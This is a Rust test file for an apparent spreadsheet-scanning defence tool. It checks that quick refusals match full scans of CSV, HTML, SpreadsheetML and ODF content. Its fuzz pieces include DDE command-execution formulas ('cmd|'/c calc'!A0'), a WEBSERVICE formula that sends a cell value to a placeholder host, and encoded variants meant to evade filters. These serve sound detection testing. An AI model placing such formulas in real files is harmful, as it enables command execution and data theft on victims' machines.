//! Fast refusals agree with the slow paths, and what is shared by the carriers.
#![allow(clippy::unwrap_used, clippy::panic, clippy::arithmetic_side_effects)]

use super::{cell_name, markup_could_request};
use crate::{csv, excelhtml, odf, spreadsheetml};
use ddefend_container::{Format, Part, Secrets, Sink};
use ddefend_guard::{Budget, Limits, Stop};
use ddefend_model::{Diagnostic, Link, NotInspected, PartPath};

/// Keeps links and forgets the rest.
struct Kept {
    budget: Budget,
    secrets: Secrets,
    path: PartPath,
    links: Vec<Link>,
}

impl Sink for Kept {
    fn budget(&self) -> &Budget {
        &self.budget
    }
    fn secrets(&self) -> &Secrets {
        &self.secrets
    }
    fn path(&self) -> &PartPath {
        &self.path
    }
    fn child(&mut self, _part: Part<'_>) {}
    fn within(&mut self, _step: &str, _tricks: &[&'static str], work: &mut dyn FnMut(&mut dyn Sink)) {
        work(self);
    }
    fn link(&mut self, link: Link) {
        self.links.push(link);
    }
    fn diagnostic(&mut self, _diagnostic: Diagnostic) {}
    fn detected(&mut self, _format: &'static Format) {}
    fn fact(&mut self, _text: String) {}
    fn not_inspected(&mut self, _entry: NotInspected) {}
}

fn kept(read: impl FnOnce(&mut dyn Sink)) -> Vec<Link> {
    let budget = Budget::new(Limits::default(), Stop::default());
    let mut sink = Kept { budget, secrets: Secrets::default(), path: PartPath::root("x"), links: Vec::new() };
    read(&mut sink);
    sink.links
}

/// Texts put together from pieces that matter, the same in every run.
fn texts(pieces: &[&str], count: usize) -> impl Iterator<Item = String> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state >> 33).unwrap()
    };
    (0..count).map(move |_| {
        let length = next() % 16;
        (0..length).map(|_| *pieces.get(next() % pieces.len()).unwrap()).collect()
    })
}

const PIECES: &[&str] = &[
    "=",
    "+",
    "cmd|'/c calc'!A0",
    "cmd",
    "|",
    "'",
    "!",
    "A0",
    "\"",
    "\"\"",
    ",",
    ";",
    "\t",
    "\n",
    " ",
    "\0",
    "DDE(\"a\";\"b\")",
    "+AHw-",
    "+AD0-",
    "\u{ff5c}",
    "\u{ff1d}",
    "WEBSERVICE(\"http://x/?\"&A1)",
    "x",
    "-",
];

#[test]
fn text_is_refused_only_where_it_holds_nothing() {
    let mut links = 0;
    for text in texts(PIECES, 4_000) {
        let fast = kept(|sink| csv::scan(text.as_bytes(), "csv", true, sink));
        let slow = kept(|sink| csv::scan(text.as_bytes(), "csv", false, sink));
        assert_eq!(fast, slow, "{text:?}");
        links += slow.len();
    }
    assert!(links > 100, "the pieces make {links} links only");
}

#[test]
fn markup_is_refused_only_where_it_holds_nothing() {
    let markup: Vec<&str> = PIECES
        .iter()
        .copied()
        .chain(["&#124;", "&#x7c;", "&apos;", "&vert;", "&#099;md", "<b>", "</b>", "&excl;"])
        .collect();
    for text in texts(&markup, 4_000) {
        let page = format!("<table><tr><td>{text}</td></tr></table>");
        let fast = kept(|sink| excelhtml::scan_html(page.as_bytes(), true, sink));
        let slow = kept(|sink| excelhtml::scan_html(page.as_bytes(), false, sink));
        assert_eq!(fast, slow, "{page:?}");
        let value = text.replace('"', "&quot;").replace('<', "&lt;").replace('\0', "");
        let book = format!(
            "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>\
             <Cell Formula=\"{value}\"/></Row></Table></Worksheet></Workbook>"
        );
        let fast = kept(|sink| spreadsheetml::read_filtered(book.as_bytes(), true, sink));
        let slow = kept(|sink| spreadsheetml::read_filtered(book.as_bytes(), false, sink));
        assert_eq!(fast, slow, "{book:?}");
        let office = format!(
            "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:t=\"t\">\
             <t:table><t:table-row><t:table-cell t:formula=\"{value}\"/></t:table-row></t:table></office:document>"
        );
        let part = || PartPath::root("x");
        let fast = kept(|sink| odf::read_content(office.as_bytes(), true, part(), sink));
        let slow = kept(|sink| odf::read_content(office.as_bytes(), false, part(), sink));
        assert_eq!(fast, slow, "{office:?}");
    }
}

#[test]
fn ordinary_markup_is_refused() {
    for text in ["<td>a &amp; b</td>", "<td>1&#10;2&#8217;3</td>", "<td>a | b</td>", "f(x) | y", "<p>SUM(A1)</p>"] {
        assert!(!markup_could_request(text.as_bytes()), "{text}");
    }
}

#[test]
fn cells_are_named() {
    assert_eq!(
        [cell_name(1, 1), cell_name(26, 2), cell_name(27, 3), cell_name(16_384, 9)],
        ["A1", "Z2", "AA3", "XFD9"]
    );
}
